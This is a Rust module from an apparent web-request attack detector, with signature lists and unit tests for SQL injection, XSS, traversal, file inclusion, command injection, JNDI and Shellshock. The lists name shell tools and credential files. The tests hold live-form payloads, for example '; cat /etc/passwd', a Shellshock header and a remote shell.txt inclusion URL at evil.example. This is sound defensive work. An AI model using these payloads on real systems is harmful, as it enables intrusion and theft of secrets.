//! Attack signatures, matched after decoding: libinjection's SQL and HTML5 tokenizers
//! for SQL injection and XSS, and small token-level matchers for the rest.

use std::borrow::Cow;

use crate::decode::{canonical, decode_value, split_params};
use crate::event::Event;
use crate::rules::{Rule, RuleSet};

/// Limits of what counts as an oversized request.
pub const MAX_TARGET: usize = 4096;
pub const MAX_VALUE: usize = 2048;
pub const MAX_BODY: usize = 65536;

/// Methods a web application is expected to receive.
pub const COMMON_METHODS: &[&str] = &["GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH"];

/// User-agent substrings of vulnerability scanners and attack tools (lower case).
const SCANNER_AGENTS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "w3af",
    "acunetix",
    "netsparker",
    "nessus",
    "openvas",
    "dirbuster",
    "gobuster",
    "wpscan",
    "masscan",
    "zgrab",
    "nuclei",
    "havij",
    "arachni",
    "skipfish",
    "whatweb",
    "hydra",
    "ffuf",
    "feroxbuster",
    "jaeles",
    "fimap",
    "commix",
    "owasp zap",
    "zaproxy",
    "burp",
    "wfuzz",
    "dirb",
    "appscan",
    "webinspect",
    "qualys",
    "jorgee",
    "morfeus",
    "zmeu",
    "sqlninja",
    "pangolin",
    "bsqlbf",
    "xsser",
    "grabber",
    "vega/",
    "paros",
    "metasploit",
    "censys",
    "l9explore",
];

/// Commands recognised after a shell separator.
const SHELL_COMMANDS: &[&[u8]] = &[
    b"cat",
    b"ls",
    b"id",
    b"whoami",
    b"uname",
    b"wget",
    b"curl",
    b"nc",
    b"ncat",
    b"netcat",
    b"bash",
    b"sh",
    b"zsh",
    b"ping",
    b"echo",
    b"rm",
    b"chmod",
    b"nslookup",
    b"sleep",
    b"ifconfig",
    b"ipconfig",
    b"python",
    b"python3",
    b"perl",
    b"php",
    b"ruby",
    b"powershell",
    b"cmd",
    b"cmd.exe",
    b"net",
    b"type",
    b"dir",
    b"pwd",
    b"passwd",
    b"telnet",
    b"tftp",
    b"ftp",
    b"dig",
    b"systeminfo",
    b"tasklist",
    b"certutil",
    b"busybox",
    b"head",
    b"tail",
    b"more",
    b"env",
    b"set",
    b"expr",
    b"eval",
    b"exec",
    b"awk",
    b"base64",
    b"xterm",
    b"useradd",
    b"mkfifo",
];

/// File names that expose secrets or configuration when served (suffix match, lower case).
const PROBE_SUFFIXES: &[&str] = &[
    ".bak",
    ".old",
    ".orig",
    ".swp",
    ".sav",
    ".save",
    ".backup",
    ".tmp",
    "~",
    ".inc",
    ".copy",
    ".dist",
    ".sql",
    ".zip.bak",
    "/.git",
    "/.svn",
    "/.env",
    "/.htaccess",
    "/.htpasswd",
    "/.ds_store",
    "/web.config",
    "/wp-config.php",
    "/phpinfo.php",
    "/.bash_history",
    "/id_rsa",
    "/server-status",
    "/.git/config",
    "/.git/head",
    "/config.php.bak",
    "/.aws/credentials",
    "/.npmrc",
    "/.dockerenv",
    "/web.xml",
];
const PROBE_CONTAINS: &[&str] = &[
    "/.git/",
    "/.svn/",
    "/.hg/",
    "/.env.",
    "/web-inf/",
    "/meta-inf/",
    "/phpmyadmin",
    "/.well-known/security.txt~",
];

const SHELL_NAMES: &[&str] = &[
    "c99.php",
    "r57.php",
    "c100.php",
    "wso.php",
    "b374k.php",
    "webshell.php",
    "shell.php",
    "cmd.php",
    "cmd.jsp",
    "cmd.asp",
    "cmd.aspx",
    "shell.aspx",
    "shell.jsp",
    "alfa.php",
    "indoxploit.php",
    "up.php",
    "uploader.php",
];

const SYSTEM_FILES: &[&[u8]] = &[
    b"/etc/passwd",
    b"/etc/shadow",
    b"/etc/group",
    b"/etc/hosts",
    b"/etc/issue",
    b"/proc/self/",
    b"/proc/version",
    b"boot.ini",
    b"win.ini",
    b"system.ini",
    b"\\windows\\",
    b"/windows/system32",
    b"c:\\",
    b"web-inf/web.xml",
    b"/var/log/",
    b".htpasswd",
];
const WRAPPERS: &[&[u8]] =
    &[b"php://", b"file://", b"expect://", b"phar://", b"zip://", b"data://", b"glob://", b"zlib://"];

/// Substring classes found in one pass of an Aho-Corasick automaton (ASCII case
/// insensitive), so that each value is scanned once however many patterns there are.
mod cat {
    pub const TRAVERSAL: u16 = 1;
    pub const SYSTEM_FILE: u16 = 2;
    pub const WRAPPER: u16 = 4;
    pub const SSI: u16 = 8;
    pub const PROBE: u16 = 16;
    pub const JNDI: u16 = 32;
    pub const SHELLSHOCK: u16 = 64;
    pub const SCRIPT: u16 = 128;
    pub const IFS: u16 = 256;
    pub const ON_ERROR: u16 = 512;
}

static AUTOMATON: std::sync::LazyLock<(aho_corasick::AhoCorasick, Vec<u16>)> =
    std::sync::LazyLock::new(|| {
        let mut pats: Vec<&[u8]> = Vec::new();
        let mut cats: Vec<u16> = Vec::new();
        let mut add = |p: &'static [u8], c: u16| {
            pats.push(p);
            cats.push(c);
        };
        add(b"../", cat::TRAVERSAL);
        add(b"..\\", cat::TRAVERSAL);
        for f in SYSTEM_FILES {
            add(f, cat::SYSTEM_FILE);
        }
        for w in WRAPPERS {
            add(w, cat::WRAPPER);
        }
        add(b"<!--#", cat::SSI);
        for p in PROBE_CONTAINS {
            add(p.as_bytes(), cat::PROBE);
        }
        add(b"${", cat::JNDI);
        add(b"() {", cat::SHELLSHOCK);
        add(b"<script", cat::SCRIPT);
        add(b"javascript:", cat::SCRIPT);
        add(b"${ifs}", cat::IFS);
        add(b"onerror=", cat::ON_ERROR);
        let ac = aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&pats)
            // Fixed patterns: building can only fail on a programming error.
            .expect("the signature patterns form an automaton");
        (ac, cats)
    });

static AGENTS: std::sync::LazyLock<aho_corasick::AhoCorasick> = std::sync::LazyLock::new(|| {
    aho_corasick::AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(SCANNER_AGENTS)
        .expect("the agent patterns form an automaton")
});

/// The pattern classes present in `s`.
fn classes(s: &[u8]) -> u16 {
    let (ac, cats) = &*AUTOMATON;
    let mut m = 0;
    for hit in ac.find_overlapping_iter(s) {
        m |= cats.get(hit.pattern().as_usize()).copied().unwrap_or(0);
    }
    m
}

/// What the signatures found in one event.
#[derive(Debug, Default, Clone)]
pub struct SignatureHit {
    pub rules: RuleSet,
    /// The decoded value that tripped an attack rule (for fingerprints and evidence).
    pub payload: Option<Vec<u8>>,
}

/// Decodes only when there is something to decode.
pub fn decode_cow(s: &[u8], plus: bool) -> Cow<'_, [u8]> {
    if s.iter().any(|b| matches!(b, b'%' | b'+' | b'&' | b'\\')) {
        Cow::Owned(decode_value(s, plus))
    } else {
        Cow::Borrowed(s)
    }
}

/// The request's parameters, decoded: query string, then the body (form-encoded bodies
/// split into pairs; any other body is one value named `(body)`).
pub fn params(ev: &Event) -> Vec<(Vec<u8>, Vec<u8>)> {
    let mut out = Vec::new();
    if let Some(q) = ev.query_string() {
        for (k, v) in split_params(q) {
            out.push((
                decode_cow(k.as_bytes(), true).into_owned(),
                decode_cow(v.as_bytes(), true).into_owned(),
            ));
        }
    }
    if let Some(b) = ev.body.as_deref() {
        let form = ev.header("content-type").is_none_or(|c| c.contains("x-www-form-urlencoded"));
        let looks_form = b.contains('=') && !b.trim_start().starts_with(['{', '<', '[']);
        if form && looks_form {
            for (k, v) in split_params(b.trim()) {
                out.push((
                    decode_cow(k.as_bytes(), true).into_owned(),
                    decode_cow(v.as_bytes(), true).into_owned(),
                ));
            }
        } else {
            out.push((b"(body)".to_vec(), decode_cow(b.as_bytes(), false).into_owned()));
        }
    }
    out
}

/// Runs every signature over an event.
pub fn inspect(ev: &Event) -> SignatureHit {
    let mut hit = SignatureHit::default();
    if let Some(m) = ev.method.as_deref()
        && !COMMON_METHODS.contains(&m)
    {
        hit.rules.insert(Rule::UnusualMethod);
    }
    if ev.malformed_headers > 0 {
        hit.rules.insert(Rule::MalformedHeader);
    }
    if let Some(ua) = ev.user_agent.as_deref() {
        if AGENTS.is_match(ua) {
            hit.rules.insert(Rule::ScannerAgent);
        }
        check_header_value(ua.as_bytes(), &mut hit);
    }
    if let Some(r) = ev.referer.as_deref() {
        check_header_value(r.as_bytes(), &mut hit);
    }
    for (_, v) in &ev.headers {
        check_header_value(v.as_bytes(), &mut hit);
    }
    let Some(target) = ev.target.as_deref() else { return hit };
    if target.len() > MAX_TARGET || ev.body.as_ref().is_some_and(|b| b.len() > MAX_BODY) {
        hit.rules.insert(Rule::Oversized);
    }
    if ev.method.is_none() || target.bytes().any(|b| b < 0x20 || b == 0x7f) {
        hit.rules.insert(Rule::NotHttp);
    }
    if let Some(path) = ev.path() {
        let decoded = decode_cow(path.as_bytes(), false);
        let lower = decoded.to_ascii_lowercase();
        check_path(&lower, &mut hit);
        // Payloads are also sent in the path itself (`/page/1' or 1=1`).
        if lower.iter().any(|b| matches!(b, b'\'' | b'"' | b'<' | b'>' | b'`' | b';' | b'|' | b'$' | 0)) {
            check_value(&decoded, &mut hit);
        }
    }
    for (k, v) in params(ev) {
        if v.len() > MAX_VALUE {
            hit.rules.insert(Rule::Oversized);
        }
        check_value(&k, &mut hit);
        check_value(&v, &mut hit);
    }
    hit
}

fn record(hit: &mut SignatureHit, rule: Rule, payload: &[u8]) {
    hit.rules.insert(rule);
    if hit.payload.is_none() {
        hit.payload = Some(payload.iter().copied().take(256).collect());
    }
}

fn check_header_value(v: &[u8], hit: &mut SignatureHit) {
    if memchr::memchr2(b'$', b'(', v).is_none() {
        return;
    }
    let c = classes(v);
    if c & cat::JNDI != 0 && is_jndi(&v.to_ascii_lowercase()) {
        record(hit, Rule::Jndi, v);
    }
    // Shellshock: a function definition in a header.
    if c & cat::SHELLSHOCK != 0 {
        record(hit, Rule::CommandInjection, v);
    }
}

fn is_jndi(lower: &[u8]) -> bool {
    let Some(i) = memchr::memmem::find(lower, b"${") else { return false };
    let rest = &lower[i..];
    memchr::memmem::find(rest, b"jndi").is_some()
        || memchr::memmem::find(rest, b"${::-").is_some()
        || memchr::memmem::find(rest, b"${lower:").is_some()
        || memchr::memmem::find(rest, b"${env:").is_some()
}

fn check_path(lower: &[u8], hit: &mut SignatureHit) {
    let c = classes(lower);
    if c & cat::TRAVERSAL != 0 || lower.ends_with(b"/..") {
        record(hit, Rule::PathTraversal, lower);
    }
    if c & cat::SYSTEM_FILE != 0 {
        record(hit, Rule::FileInclusion, lower);
    }
    // A trailing slash names a directory listing, not a file: suffixes do not apply.
    if c & cat::PROBE != 0 || PROBE_SUFFIXES.iter().any(|p| lower.ends_with(p.as_bytes())) {
        record(hit, Rule::ReconProbe, lower);
    }
    let base = lower.rsplit(|b| *b == b'/').next().unwrap_or_default();
    if base.len() >= 6 && SHELL_NAMES.iter().any(|n| n.as_bytes() == base) {
        record(hit, Rule::WebShell, lower);
    }
    if c & cat::SSI != 0 {
        record(hit, Rule::ServerSideInclude, lower);
    }
}

/// Values made only of these bytes cannot carry any of the attacks below.
fn is_plain(v: &[u8]) -> bool {
    v.iter().all(|b| {
        b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'@' | b',' | b':' | b'/') || *b >= 0x80
    })
}

/// Runs the value-level detectors over one decoded value.
pub fn check_value(v: &[u8], hit: &mut SignatureHit) {
    if v.is_empty() || is_plain(v) {
        // A plain value can still be a remote URL or a path.
        if v.contains(&b'/') {
            let c = classes(v);
            if c & cat::TRAVERSAL != 0 || v.ends_with(b"/..") {
                record(hit, Rule::PathTraversal, v);
            }
            check_inclusion(c, v, hit);
        }
        return;
    }
    if v.contains(&0) {
        record(hit, Rule::NullByte, v);
    }
    // libinjection can panic on inputs its port has not met yet; a detector failure
    // must never take the scan down, so it is contained and counted as no match.
    let sqli = std::panic::catch_unwind(|| libinjectionrs::detect_sqli(v).is_injection()).unwrap_or(false);
    if sqli {
        record(hit, Rule::Sqli, v);
    }
    if v.iter().any(|b| matches!(b, b'<' | b'>' | b'"' | b'\'' | b'`' | b'=' | b'(')) {
        let xss = std::panic::catch_unwind(|| libinjectionrs::detect_xss(v).is_injection()).unwrap_or(false);
        if xss {
            record(hit, Rule::Xss, v);
        }
    }
    // CR/LF followed by a header name: response splitting.
    if let Some(i) = memchr::memchr2(b'\r', b'\n', v) {
        let rest = &v[i..];
        let rest = &rest[rest.iter().position(|b| *b != b'\r' && *b != b'\n').unwrap_or(rest.len())..];
        let name_len = rest.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
        if name_len > 0 && rest.get(name_len) == Some(&b':') {
            record(hit, Rule::CrlfInjection, v);
        }
    }
    let c = canonical(v);
    let cl = classes(&c);
    if cl & cat::TRAVERSAL != 0 || c.ends_with(b"/..") || c == b".." {
        record(hit, Rule::PathTraversal, v);
    }
    check_inclusion(cl, &c, hit);
    if cl & cat::SSI != 0 {
        record(hit, Rule::ServerSideInclude, v);
    }
    if cl & cat::JNDI != 0 && is_jndi(&c) {
        record(hit, Rule::Jndi, v);
    }
    if cl & cat::IFS != 0 || has_command(&c) {
        record(hit, Rule::CommandInjection, v);
    }
    // XSS vectors libinjection misses once entities are decoded.
    if !hit.rules.contains(Rule::Xss)
        && (cl & cat::SCRIPT != 0 || (cl & cat::ON_ERROR != 0 && c.contains(&b'<')))
    {
        record(hit, Rule::Xss, v);
    }
}

fn check_inclusion(classes: u16, raw: &[u8], hit: &mut SignatureHit) {
    if classes & (cat::SYSTEM_FILE | cat::WRAPPER) != 0 {
        record(hit, Rule::FileInclusion, raw);
        return;
    }
    if raw.len() < 8 || !raw[..8].contains(&b':') {
        return;
    }
    let lower = raw.to_ascii_lowercase();
    let lower = lower.as_slice();
    // Remote inclusion: a URL to a script, usually ending in `?` to cut off the suffix
    // the application appends.
    for scheme in [&b"http://"[..], b"https://", b"ftp://"] {
        if lower.starts_with(scheme) {
            let script = [&b".txt"[..], b".php", b".sh", b".pl", b".py", b".jsp", b".asp"]
                .iter()
                .any(|x| memchr::memmem::find(lower, x).is_some());
            if lower.ends_with(b"?") || (script && lower.contains(&b'?')) || lower.ends_with(b".txt") {
                record(hit, Rule::FileInclusion, raw);
            }
        }
    }
}

/// A shell separator followed by a known command: `; cat /etc/passwd`, `| id`,
/// `` `whoami` ``, `$(uname -a)`, `&& ping -c 3 x`.
fn has_command(c: &[u8]) -> bool {
    if memchr::memchr3(b';', b'|', b'`', c).is_none() && memchr::memchr3(b'&', b'$', b'\n', c).is_none() {
        return false;
    }
    let mut i = 0;
    while i < c.len() {
        let sep_len = match (c[i], c.get(i + 1)) {
            (b'$', Some(b'(')) => 2,
            (b'&', Some(b'&')) | (b'|', Some(b'|')) => 2,
            (b';' | b'|' | b'`' | b'\n', _) => 1,
            (b'&', _) => 1,
            _ => {
                i += 1;
                continue;
            }
        };
        let mut j = i + sep_len;
        while j < c.len() && (c[j] == b' ' || c[j] == b'\t') {
            j += 1;
        }
        let start = j;
        while j < c.len() && (c[j].is_ascii_alphanumeric() || matches!(c[j], b'/' | b'.' | b'_' | b'\\')) {
            j += 1;
        }
        let word = &c[start..j];
        let base = match word.iter().rposition(|b| *b == b'/' || *b == b'\\') {
            Some(p) => &word[p + 1..],
            None => word,
        };
        let ends_ok = j == c.len()
            || matches!(c[j], b' ' | b'\t' | b';' | b'|' | b'`' | b')' | b'&' | b'<' | b'>' | b'$');
        if !base.is_empty() && ends_ok && SHELL_COMMANDS.contains(&base) {
            // `&` and `;` separate ordinary text too ("Tom & Jerry", "a; b"): the
            // command must be followed by an argument or a further shell token, or
            // end the value.
            let after = &c[j..];
            let strong = matches!(c[i], b'$' | b'`' | b'|') || sep_len == 2;
            if strong
                || after.is_empty()
                || after.starts_with(b" -")
                || after.starts_with(b" /")
                || after.starts_with(b";")
                || after.starts_with(b"|")
                || after.starts_with(b"`")
                || after.starts_with(b" $")
            {
                return true;
            }
        }
        i += sep_len;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules_of(v: &str) -> RuleSet {
        let mut hit = SignatureHit::default();
        check_value(&decode_value(v.as_bytes(), true), &mut hit);
        hit.rules
    }

    #[test]
    fn encoded_attacks_are_found() {
        assert!(
            rules_of("%27%3B+DROP+TABLE+usuarios%3B+SELECT+*+FROM+datos+WHERE+nombre+LIKE+%27%25")
                .contains(Rule::Sqli)
        );
        assert!(rules_of("1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--").contains(Rule::Sqli));
        assert!(rules_of("%253Cscript%253Ealert(1)%253C/script%253E").contains(Rule::Xss));
        assert!(rules_of("&lt;img src=x onerror=alert(1)&gt;").contains(Rule::Xss));
        assert!(rules_of("..%2F..%2F..%2Fetc%2Fpasswd").contains(Rule::PathTraversal));
        assert!(rules_of("..%2F..%2F..%2Fetc%2Fpasswd").contains(Rule::FileInclusion));
        assert!(rules_of("127.0.0.1%3B+cat+%2Fetc%2Fpasswd").contains(Rule::CommandInjection));
        assert!(rules_of("%60whoami%60").contains(Rule::CommandInjection));
        assert!(rules_of("http://evil.example/shell.txt?").contains(Rule::FileInclusion));
        assert!(rules_of("php://filter/convert.base64-encode/resource=index").contains(Rule::FileInclusion));
        assert!(rules_of("%3C%21--%23exec+cmd%3D%22ls%22--%3E").contains(Rule::ServerSideInclude));
        assert!(rules_of("x%0d%0aSet-Cookie:+a=b").contains(Rule::CrlfInjection));
        assert!(rules_of("${jndi:ldap://x/a}").contains(Rule::Jndi));
        assert!(rules_of("a.php%00.jpg").contains(Rule::NullByte));
    }

    #[test]
    fn ordinary_values_are_left_alone() {
        for v in [
            "Vino+Rioja",
            "A%F1adir+al+carrito",
            "Calle+Mayor%2C+5%2C+2%BA+izq.",
            "john.smith%40example.com",
            "Tom+%26+Jerry",
            "O%27Brien",
            "rock+%26+roll%3B+cats+and+dogs",
            "http://example.com/page",
            "2024-10-01",
            "q=hello+world",
        ] {
            assert!(rules_of(v).is_empty(), "{v}: {:?}", rules_of(v).names());
        }
    }

    #[test]
    fn paths_and_agents() {
        let ev = |t: &str, ua: &str| Event {
            method: Some("GET".into()),
            target: Some(t.into()),
            user_agent: Some(ua.into()),
            ..Event::default()
        };
        assert!(inspect(&ev("/index.jsp.BAK", "Mozilla")).rules.contains(Rule::ReconProbe));
        assert!(inspect(&ev("/.git/config", "Mozilla")).rules.contains(Rule::ReconProbe));
        assert!(inspect(&ev("/uploads/c99.php", "Mozilla")).rules.contains(Rule::WebShell));
        assert!(
            inspect(&ev("/", "sqlmap/1.7.2#stable (https://sqlmap.org)")).rules.contains(Rule::ScannerAgent)
        );
        assert!(inspect(&ev("/a/../../etc/passwd", "Mozilla")).rules.contains(Rule::PathTraversal));
        assert!(inspect(&ev("/", "() { :; }; /bin/bash -c id")).rules.contains(Rule::CommandInjection));
        assert!(inspect(&ev("/images/logo.png", "Mozilla/5.0 (X11; Linux x86_64)")).rules.is_empty());
        let mut long = ev("/", "Mozilla");
        long.target = Some(format!("/?a={}", "A".repeat(5000)));
        assert!(inspect(&long).rules.contains(Rule::Oversized));
    }
}
